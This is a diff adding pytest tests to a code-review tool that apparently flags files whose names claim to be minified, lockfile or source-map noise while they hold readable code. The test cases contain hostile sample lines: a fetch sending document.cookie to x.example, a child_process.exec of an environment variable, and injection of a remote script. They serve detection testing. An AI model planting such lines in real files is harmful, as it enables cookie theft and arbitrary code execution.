@@ -5,6 +5,9 @@ from __future__ import annotations
 
 import pytest
 
+from dualrag.checks.screen import screen
+from dualrag.config import Settings
+from dualrag.diff import ingest
 from dualrag.source.gitattributes import LinguistAttributes
 from dualrag.source.lockfiles import misfit
 from dualrag.source.noise import marker_line
@@ -64,3 +67,28 @@ def test_target_side_without_a_repository_confirms_nothing():
     target = TargetSide()
     assert not target.known and target.exists("vendor/x") is None and target.head("a.go") is None
     assert target.module_root("") and not target.module_root("web")
+
+
+def _added(path: str, text: str) -> bytes:
+    lines = text.splitlines()
+    body = "".join(f"+{line}\n" for line in lines)
+    return (f"diff --git a/{path} b/{path}\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n"
+            f"+++ b/{path}\n@@ -0,0 +1,{len(lines)} @@\n{body}").encode()
+
+
+MINIFIED = "!function(e){" + ";".join(f"e.f{i}=function(){{return {i}}}" for i in range(40)) + "}(window);"
+
+
+@pytest.mark.parametrize("path, text, held", [
+    ("web/static/app.min.js", "fetch('https://x.example/' + document.cookie);", True),  # readable code, minified name
+    ("package-lock.json", "module.exports = require('child_process').exec(process.env.CMD);", True),
+    ("web/app.js.map", "document.write('<script src=//x.example/a.js></script>');", True),
+    ("web/static/app.min.js", MINIFIED, False),  # minified indeed: skipped (and held as unread, not here)
+    ("web/static/app.js", "fetch('https://x.example/' + document.cookie);", False),  # no claim in the name
+])
+def test_a_name_that_claims_noise_on_reviewed_content_holds_the_decision(path, text, held):
+    changes = ingest(_added(path, text), Settings())
+    screening = screen(changes, [])
+    names = [f for f in screening.findings if f.title == "A name that claims the file is noise"]
+    assert (screening.steering == (path,)) is held and bool(names) is held
+    assert changes.files[0].reviewable is (held or path.endswith("app.js"))
